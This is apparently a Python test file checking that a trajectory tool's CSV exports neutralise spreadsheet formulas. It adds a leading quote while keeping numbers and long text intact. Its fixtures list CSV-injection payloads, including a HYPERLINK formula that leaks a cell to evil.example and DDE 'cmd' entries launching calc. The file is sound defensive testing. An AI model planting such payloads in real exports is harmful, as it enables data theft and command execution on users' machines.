"""CSV that a spreadsheet opens is data, never formulas (issue 24, section 8): a stored answer
such as ``=HYPERLINK(...)`` comes out of ``traj query --format csv``, the viewer's /query.csv
and the static site's table files with a leading ``'``, numbers stay numbers, and nothing is cut."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from helpers import example_run, jsonl
from trajectory.cli.main import app
from trajectory.ingest.files import ingest_bytes
from trajectory.store.delta import Store
from trajectory.text import csv_line, spreadsheet_safe, spreadsheet_safe_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\uff1d1+1"]
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory) -> Store:
    store = Store(tmp_path_factory.mktemp("csv") / "store")
    lines: list[str] = []
    for i, answer in enumerate(HOSTILE):
        lines += example_run(f"r{i}", answer=answer)
    ingest_bytes(store, jsonl(lines), "csv")
    return store


def test_query_csv_neutralises_formulas_from_the_store(hostile_store: Store) -> None:
    sql = ("SELECT run_id, json_extract_string(data, '$.text') AS answer FROM events "
           "WHERE kind = 'answer_given' ORDER BY run_id")
    r = CliRunner().invoke(app, ["query", sql, "--format", "csv", "--store", str(hostile_store.loc)])
    assert r.exit_code == 0, r.output
    got = rows_of(r.output)
    answers = [a for _, a in got[1:]]
    assert sorted(answers) == sorted("'" + a for a in HOSTILE), answers  # each kept whole, marked text
    assert not any(a.startswith(STARTS) for a in answers)


def test_query_csv_keeps_numbers_and_long_text_as_they_are(hostile_store: Store) -> None:
    sql = "SELECT -3 AS n, 1.25e-7 AS f, '-' AS dash, repeat('y', 200) AS long, 9007199254740993 AS big"
    r = CliRunner().invoke(app, ["query", sql, "--format", "csv", "--store", str(hostile_store.loc)])
    assert r.exit_code == 0, r.output
    assert rows_of(r.output)[1] == ["-3", "1.25e-07", "'-", "y" * 200, "9007199254740993"]


def test_viewer_download_neutralises_formulas(hostile_store: Store) -> None:
    from starlette.testclient import TestClient

    from trajectory.view.app import create_app
    from trajectory.view.data import StoreData

    data = StoreData(str(hostile_store.loc), background_index=False)
    try:
        with TestClient(create_app(data)) as client:
            sql = "SELECT json_extract_string(data, '$.text') AS answer FROM events WHERE kind = 'answer_given'"
            got = client.get("/query.csv", params={"sql": sql})
    finally:
        data.close()
    assert got.status_code == 200, got.text
    answers = [r[0] for r in rows_of(got.text)[1:]]
    assert sorted(answers) == sorted("'" + a for a in HOSTILE)


def test_static_table_files_neutralise_formulas(tmp_path) -> None:
    from trajectory.view.static_site import _table_files

    _table_files({"columns": ["a", "n"], "rows": [[h, -1] for h in HOSTILE]}, tmp_path / "t")
    got = rows_of((tmp_path / "t.csv").read_bytes().decode("utf-8"))
    assert [r[0] for r in got[1:]] == ["'" + h for h in HOSTILE] and {r[1] for r in got[1:]} == {"-1"}
    # The JSON twin is data for programs: left as it was.
    assert [r["a"] for r in json.loads((tmp_path / "t.json").read_text(encoding="utf-8"))] == HOSTILE


def test_a_suites_own_csv_report_is_neutralised() -> None:
    text = spreadsheet_safe_csv('suite,answer\nweather,"=HYPERLINK(""x"")"\nweather,-4\n')
    assert rows_of(text) == [["suite", "answer"], ["weather", "'=HYPERLINK(\"x\")"], ["weather", "-4"]]


@given(st.text(max_size=40))
def test_no_cell_a_spreadsheet_would_evaluate_and_nothing_lost(cell: str) -> None:
    safe = spreadsheet_safe(cell)
    assert safe == cell or safe == "'" + cell  # a mark added, nothing else changed
    if safe.startswith(STARTS):
        float(safe)  # only a plain number may start with a sign
    # Through a CSV file and back, each cell is what spreadsheet_safe made it.
    assert rows_of(spreadsheet_safe_csv(csv_line([cell, "x"]) + "\n")) == [[safe, "x"]]
    # Any cell, CR and LF included, is one cell of one record.
    assert rows_of(csv_line([cell, cell])) == [[cell, cell]]
